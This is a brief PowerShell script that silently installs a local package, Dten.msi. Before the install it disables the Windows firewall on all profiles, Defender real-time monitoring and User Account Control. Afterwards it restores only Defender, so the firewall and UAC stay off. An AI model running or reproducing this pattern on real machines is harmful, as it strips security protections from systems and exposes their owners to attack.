$ErrorActionPreference = 'Stop'
Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False
Set-MpPreference -DisableRealtimeMonitoring $true
Set-ItemProperty -Path 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System' -Name EnableLUA -Value 0
msiexec /i Dten.msi /qn
Set-MpPreference -DisableRealtimeMonitoring $false
